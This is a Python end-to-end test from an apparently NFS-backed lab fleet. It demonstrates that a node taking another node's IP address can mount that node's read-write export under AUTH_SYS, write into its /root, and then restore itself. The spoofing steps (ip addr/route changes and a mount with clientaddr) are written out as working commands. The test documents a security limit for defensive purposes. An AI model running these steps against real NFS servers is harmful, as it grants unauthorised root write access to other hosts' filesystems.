"""The limit of per-node exports, measured: root on a node that takes another node's address
mounts that node's read-write export (docs/security.md).

NFS with ``sec=sys`` (AUTH_SYS) knows a client by its source address alone. The isolation that
tests/e2e/test_persistence.py proves (node01 cannot mount node02's replica) holds only while
each node keeps its own address; nothing in NFS can tell a node that lies about it. Closing
that gap is the network's job (per-node VLANs, or DHCP snooping with IP source guard) or
Kerberos's (``sec=krb5``): see docs/security.md.

The thief is node04 (its other users only read); the victim is node07, which no test boots,
so its address 10.77.0.17 is free and nobody else uses its replica. node04 keeps its own
address (its root and replica stay mounted through it) and adds node07's as a second one, with
a route that makes it the source of new connections to the server. Everything is undone at the
end, and node04 is checked to work as before.

    CI=true .venv/bin/pytest tests/e2e/test_security.py
"""

from __future__ import annotations

import re

import pytest

from tests.e2e.conftest import Fleet, Lab

pytestmark = pytest.mark.e2e

THIEF, THIEF_IP = "node04", "10.77.0.14"
VICTIM, VICTIM_IP = "node07", "10.77.0.17"
SERVER = "10.77.0.1"
SECRET = "dim-e2e-taken"


def test_a_node_that_takes_another_nodes_address_mounts_its_read_write_export(
    lab: Lab, fleet: Fleet
) -> None:
    assert THIEF in fleet.seconds
    victim = lab.replica(VICTIM, "tiny")
    assert (victim / "etc").is_dir(), "node07's replica is exported, though it never booted"
    route = lab.ok(THIEF, f"ip route get {SERVER}")
    device = re.search(r"\bdev (\S+)", route)
    assert device and f"src {THIEF_IP}" in route, route
    iface = device.group(1)
    # NFSv4.2, not the 4.1 of the node's own mounts: the kernel shares one client (and one TCP
    # connection, from the node's own address) among the mounts of one server and version.
    # (node04's kernel, 6.1, does not read with READ_PLUS: 4.2 is safe with ganesha 4.3.)
    mount = f"mount -t nfs4 -o vers=4.2,addr={SERVER},clientaddr={VICTIM_IP}"
    try:
        lab.ok(THIEF, f"ip addr add {VICTIM_IP}/32 dev {iface}")
        lab.ok(THIEF, f"ip route add {SERVER}/32 dev {iface} src {VICTIM_IP}")
        assert f"src {VICTIM_IP}" in lab.ok(THIEF, f"ip route get {SERVER}")
        lab.ok(THIEF, f"mkdir -p /tmp/taken && {mount} {SERVER}:{victim} /tmp/taken", timeout=60)
        # read-write, as root: the victim's /root and /etc are the thief's to change
        lab.ok(THIEF, f"echo {THIEF} > /tmp/taken/root/{SECRET} && sync")
        assert lab.ok(THIEF, "ls /tmp/taken/etc") != ""
    finally:
        lab.run(THIEF, "umount /tmp/taken", timeout=60)
        lab.run(THIEF, f"ip route del {SERVER}/32 dev {iface} src {VICTIM_IP}")
        lab.run(THIEF, f"ip addr del {VICTIM_IP}/32 dev {iface}")
    # on the server: the file is in node07's replica, written through node07's export
    written = victim / "root" / SECRET
    try:
        assert written.read_text() == f"{THIEF}\n"
    finally:
        written.unlink(missing_ok=True)

    # node04 is itself again: its own address, and its root and replica answer
    assert f"src {THIEF_IP}" in lab.ok(THIEF, f"ip route get {SERVER}")
    assert VICTIM_IP not in lab.ok(THIEF, "ip addr")
    assert lab.ok(THIEF, "hostname").strip() == THIEF
    lab.ok(THIEF, "touch /root/dim-e2e-alive && rm /root/dim-e2e-alive")
    # and from its own address, a mount of node07's export is refused again (NFSv4.0: a client
    # of its own, whatever is left of the 4.2 one that the thief used)
    honest = f"mount -t nfs4 -o vers=4.0,addr={SERVER},clientaddr={THIEF_IP}"
    status, said = lab.run(THIEF, f"{honest} {SERVER}:{victim} /tmp/taken", timeout=60)
    assert status != 0, said
    assert re.search(r"mount: mounting .* failed: (No such file|Permission denied)", said), said
